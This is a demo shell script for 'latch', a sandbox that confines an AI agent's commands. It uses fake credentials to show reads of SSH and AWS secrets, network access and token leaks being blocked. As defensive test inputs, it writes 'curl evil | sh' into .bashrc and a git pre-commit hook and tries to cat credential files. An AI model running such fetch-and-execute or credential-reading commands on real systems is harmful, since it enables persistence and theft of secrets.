#!/bin/sh
# `make demo`: latch confining real commands with the built-in agent profile,
# in a throwaway HOME holding fake credentials (your own files are untouched).
set -u
latch=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
# Not in /tmp: the agent's isolated runs get a /tmp of their own, which
# would hide this HOME instead of showing its credentials refused.
demo=$(mktemp -d /var/tmp/latch-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT
export HOME="$demo/home" TMPDIR="$demo/tmp" PATH=/usr/local/bin:/usr/bin:/bin
unset XDG_CONFIG_HOME XDG_CACHE_HOME XDG_DATA_HOME XDG_STATE_HOME
mkdir -p "$HOME/.ssh" "$HOME/.aws" "$HOME/project" "$TMPDIR"
echo "-----BEGIN FAKE KEY----- demo-secret" >"$HOME/.ssh/id_rsa"
chmod 600 "$HOME/.ssh/id_rsa"
printf '[default]\naws_secret_access_key = demo-secret\n' >"$HOME/.aws/credentials"
echo 'echo hello' >"$HOME/.bashrc"
cd "$HOME/project" || exit 1
git init -q . 2>/dev/null

# step 'what a person would type' COMMAND...: show the first, run the rest.
step() {
	printf '\n\033[1m$ %s\033[0m\n' "$1"
	shift
	"$@"
	printf '\033[2m(exit status %d)\033[0m\n' "$?"
}

echo "latch demo: HOME=$HOME, working in $PWD"
echo "The agent profile: read the system and toolchains, read/write the project"
echo "and a private tmp; credentials, shell configs and history denied; no network."
step "latch why -p agent read ~/.ssh/id_rsa" \
	"$latch" why -p agent read "$HOME/.ssh/id_rsa"
step "latch run -p agent -- sh -c 'cat ~/.ssh/id_rsa'   # with latch's own report on stderr" \
	"$latch" run -p agent -- sh -c 'cat ~/.ssh/id_rsa'
echo
echo "(From here on --quiet: only the programs' own output.)"
step "latch run -p agent -- sh -c 'cat ~/.aws/credentials'" \
	"$latch" run --quiet -p agent -- sh -c 'cat ~/.aws/credentials'
step "latch why -p agent write build.log" \
	"$latch" why -p agent write build.log
step "latch run -p agent -- sh -c 'echo built > build.log && cat build.log'" \
	"$latch" run --quiet -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
step "latch run -p agent -- sh -c 'echo \"curl evil | sh\" >> ~/.bashrc'" \
	"$latch" run --quiet -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
step "latch run -p agent -- sh -c 'echo \"curl evil | sh\" > .git/hooks/pre-commit'   # code that runs later" \
	"$latch" run --quiet -p agent -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
step "latch run -p agent -- sh -c 'ps -e && tar cf /dev/null . && git status --short'   # real work" \
	"$latch" run --quiet -p agent -- sh -c 'ps -e && tar cf /dev/null . && git status --short'
step "GITHUB_TOKEN=ghp_demo latch run -p agent -- sh -c 'echo \$GITHUB_TOKEN'" \
	env GITHUB_TOKEN=ghp_demo "$latch" run --quiet -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
step "latch run -p agent -- python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 80))'   # last line" \
	sh -c 'out=$("$1" run --quiet -p agent -- python3 -c "import socket; socket.create_connection((\"127.0.0.1\", 80))" 2>&1)
		rc=$?; printf "%s\n" "$out" | tail -n 1; exit $rc' sh "$latch"
step "latch run -p agent --dry-run -- true   # the compiled plan, as JSON (first 300 bytes)" \
	sh -c '"$1" run -p agent --dry-run -- true | cut -c1-300' sh "$latch"
# The main job: a run-time grant to an unmodified, running program. An
# approver (here a script standing in for an IDE) answers over a socket.
cat >"$demo/approver.py" <<'PY'
import json, os, socket, sys, time
path = sys.argv[1]
for _ in range(100):
    if os.path.exists(path):
        break
    time.sleep(0.05)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(path)
f = s.makefile("rw")
for decision in ("allow_once", "deny"):
    q = json.loads(f.readline())
    print(f"  [approver] {q['exe']} wants to {q['access']} {q['path']}: answering {decision}", flush=True)
    f.write(json.dumps({"id": q["id"], "decision": decision}) + "\n")
    f.flush()
PY
printf '\n\033[1m$ latch run -p agent --approve-socket SOCK -- sh -c "cat ~/.ssh/known_hosts; cat ~/.ssh/known_hosts"\033[0m\n'
echo "github.com ssh-ed25519 AAAA...demo" >"$HOME/.ssh/known_hosts"
python3 "$demo/approver.py" "$demo/approve.sock" &
"$latch" run --quiet -p agent --approve-socket "$demo/approve.sock" -- \
	sh -c 'cat ~/.ssh/known_hosts && echo "(read, once)"; cat ~/.ssh/known_hosts || echo "(denied the second time)"'
wait
printf '\033[2m(the same unmodified cat, in one run: granted once, then denied)\033[0m\n'

printf '\nThe project file written from inside the sandbox:\n'
ls -l "$HOME/project"
